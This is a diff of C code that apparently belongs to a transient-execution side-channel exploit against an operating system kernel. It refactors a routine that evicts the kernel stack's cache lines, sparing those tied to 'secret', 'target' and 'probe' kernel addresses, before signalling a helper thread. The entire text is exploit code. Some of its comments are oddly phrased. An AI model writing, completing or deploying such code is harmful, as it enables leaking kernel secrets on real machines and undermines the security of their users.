@@ -71,14 +71,11 @@ static inline int translates(int line, uint64_t address)
 }
 
 /*
- * It receives, and returns. What translates addresses that are used transiently then stays in the caches:
- * there is little time for walks.
+ * Evicts the lines of the kernel's stack, but those where a page table has entries of addresses that are used
+ * transiently: there is little time for walks.
  */
-static inline void end_receiving(const uint64_t *used, int count)
+static inline void evict_stack(const uint64_t *used, int count)
 {
-	static const uint8_t bytes[RECEIVED_BYTES];
-	uint8_t done;
-
 	for (int offset = STACK_BEGIN - STACK_BYTES; offset < STACK_BEGIN; offset += 64) {
 		int spared = 0;
 
@@ -87,8 +84,29 @@ static inline void end_receiving(const uint64_t *used, int count)
 		if (!spared)
 			evict(offset, pages_to_evict);
 	}
+}
+
+/* The other thread receives, and returns. */
+static inline void send_bytes(void)
+{
+	static const uint8_t bytes[RECEIVED_BYTES];
+	uint8_t done;
+
 	if (write(receive_from, bytes, sizeof(bytes)) != sizeof(bytes) || read(answered[0], &done, 1) != 1)
 		err(1, "receiving");
+}
+
+/*
+ * The other thread receives, and returns slowly.
+ *
+ * @param secret @param target @param probe kernel addresses: what is read, by which code, and where it is sent
+ */
+static inline void end_receiving(uint64_t secret, uint64_t target, uint64_t probe)
+{
+	const uint64_t used[] = { secret, target, probe };
+
+	evict_stack(used, sizeof(used) / sizeof(*used));
+	send_bytes();
 }
 
 /* Needs prepare_eviction. */
@@ -110,7 +128,8 @@ static inline void prepare_receiving(void)
 		err(1, "thread");
 	for (int i = 0; i < FIRST_EXCHANGES; i++) {
 		begin_receiving(0);
-		end_receiving(NULL, 0);
+		evict_stack(NULL, 0);
+		send_bytes();
 	}
 }
 
